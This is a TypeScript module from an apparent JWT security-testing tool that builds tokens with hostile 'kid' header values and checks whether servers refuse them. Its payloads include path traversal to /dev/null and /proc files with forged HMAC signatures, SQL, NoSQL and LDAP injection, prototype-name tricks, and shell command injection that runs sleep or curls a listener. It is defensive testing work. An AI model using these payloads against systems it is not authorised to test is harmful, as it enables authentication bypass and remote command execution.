import type { JsonValue } from '../../json.js';
import { rfc, type Source } from '../../lint/source.js';
import { compact, each, encode, headerWith } from '../compose.js';
import { inModes } from '../modes.js';
import type { Attempt, Expected, JwsMutation, MutationClass } from '../mutation.js';
import type { OriginalJws } from '../original.js';
import { forgeSignature } from '../signer.js';

/** A key id that is none, or not the one; signed all the same where the issuer's key is there. */
function odd(
  name: string,
  title: string,
  kid: JsonValue | undefined,
  tests: string,
  whenSigned: Expected = 'either',
): JwsMutation {
  return {
    id: `kid.${name}`,
    title,
    of: 'jws',
    class: 'safe',
    needs: ['issuer-key'],
    sources: [rfc(7515, '4.1.4'), rfc(8725, '3.10')],
    tests,
    make: (original, materials) =>
      inModes(original, materials, ['stale', 'signed'], '', whenSigned, {
        header: headerWith(original, { kid }),
      }),
  };
}

/** A key id, and what the secret becomes where it is looked up as hoped. */
type Lure = readonly [variant: string, kid: JsonValue, secret: string];

interface Looked {
  readonly title: string;
  readonly tests: string;
  readonly sources: readonly [Source, ...Source[]];
  readonly class?: MutationClass;
}

/** Key ids that lead whoever looks them up to a secret that the attacker knows. */
function lured(name: string, facts: Looked, lures: readonly Lure[]): JwsMutation {
  return {
    class: 'safe',
    ...facts,
    id: `kid.${name}`,
    of: 'jws',
    needs: [],
    make: (original) =>
      lures.map(
        ([variant, kid, secret]): Attempt => ({
          variant,
          token: underSecret(original, kid, secret),
          expected: 'refuse',
        }),
      ),
  };
}

function underSecret(original: OriginalJws, kid: JsonValue, secret: string): string {
  const input = `${encode(headerWith(original, { alg: 'HS256', kid }))}.${original.payloadPart}`;
  return `${input}.${forgeSignature('HS256', secret, input)}`;
}

const INJECTION = [rfc(8725, '3.10'), rfc(8725, '2.9')] as const;

const devnull = lured(
  'devnull',
  {
    title: '`kid` is the path of an empty file, and the secret is empty',
    tests: 'the server reads the key from a file whose name the token gives',
    sources: INJECTION,
  },
  [
    ['absolute', '/dev/null', ''],
    ['climbing', '../../../../../../../../dev/null', ''],
    ['backslashes', '..\\..\\..\\..\\..\\..\\..\\..\\dev\\null', ''],
    ['file-url', 'file:///dev/null', ''],
    ['percent-encoded', '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/dev/null', ''],
    ['nul-terminated', '../../../../../../../../dev/null\0.pem', ''],
  ],
);

/** Its only content on a Linux with the usual settings. */
const RANDOMIZE = '/proc/sys/kernel/randomize_va_space';

const knownFile = lured(
  'known-file',
  {
    title: '`kid` is the path of a file whose content is known, and that is the secret',
    tests: 'the server reads the key from a file whose name the token gives',
    sources: INJECTION,
  },
  [
    ['absolute', RANDOMIZE, '2\n'],
    ['climbing', `../../../../../../../..${RANDOMIZE}`, '2\n'],
    ['trimmed', RANDOMIZE, '2'],
  ],
);

const sqli = lured(
  'sqli',
  {
    title: '`kid` is a piece of SQL that answers a known secret',
    tests: 'the server puts the key id into an SQL statement as it is',
    sources: INJECTION,
  },
  [
    ['union', "x' UNION SELECT '1';--", '1'],
    ['union-bare', "x' UNION SELECT '1", '1'],
    ['always-true', "' OR 1=1 --", ''],
  ],
);

const proto = lured(
  'proto',
  {
    title: '`kid` is a name that every JavaScript object has',
    tests: 'the server looks the key up in an object, and goes on with what it inherits',
    sources: INJECTION,
  },
  [
    ['__proto__', '__proto__', ''],
    ['__proto__-text', '__proto__', '[object Object]'],
    ['constructor', 'constructor', 'function Object() { [native code] }'],
    ['undefined', 'undefined', 'undefined'],
  ],
);

const nosql = lured(
  'nosql',
  {
    title: '`kid` is a query operator',
    tests: 'the server hands the key id to a document database without asking whether it is text',
    sources: INJECTION,
  },
  [
    ['not-equal', { $ne: null }, ''],
    ['any-text', { $gt: '' }, ''],
  ],
);

const ldap: JwsMutation = {
  id: 'kid.ldap',
  title: '`kid` is a piece of an LDAP filter',
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(8725, '3.10'), rfc(4515, '3')],
  tests: 'the server puts the key id into an LDAP filter as it is',
  make: (original) => each({ any: stale(original, '*'), 'or-any': stale(original, '*)(|(objectClass=*') }),
};

const stale = (original: OriginalJws, kid: string): string =>
  compact(headerWith(original, { kid }), original.payloadPart, original.signaturePart);

const command: JwsMutation = {
  id: 'kid.cmd',
  title: '`kid` is a shell command: it waits ten seconds, or calls a listener of yours',
  of: 'jws',
  class: 'dangerous',
  needs: ['listener'],
  sources: INJECTION,
  tests:
    'the server opens the key id in a way that runs commands: the answer takes ten seconds, or the listener sees a request',
  make(original, { listener }): readonly Attempt[] {
    const waiting = each({
      'sleep-pipe': stale(original, '|sleep 10'),
      'sleep-substitution': stale(original, '$(sleep 10)'),
    });
    if (listener === undefined) return [...waiting, { variant: 'curl', missing: 'listener' }];
    return [...waiting, ...each({ curl: stale(original, `| curl ${new URL(listener).href}`) })];
  },
};

const UNKNOWN = 'the server takes any key, or fails, where the id leads to none';

/** Key ids that mislead whoever looks them up. */
export const keyId: readonly JwsMutation[] = [
  odd('empty', '`kid` is empty', '', UNKNOWN),
  odd('null', '`kid` is null', null, UNKNOWN),
  odd('number', '`kid` is a number', 0, UNKNOWN),
  odd('array', '`kid` is a list', ['0'], UNKNOWN),
  odd('wildcard', '`kid` is *', '*', 'the server takes the key id for a pattern'),
  odd(
    'default',
    '`kid` is default',
    'default',
    'the server keeps a default key that is not meant for tokens',
  ),
  odd('unknown', '`kid` is the id of no key', 'authctl-no-such-key', UNKNOWN),
  odd('absent', '`kid` is missing', undefined, UNKNOWN),
  devnull,
  knownFile,
  sqli,
  command,
  ldap,
  nosql,
  proto,
];
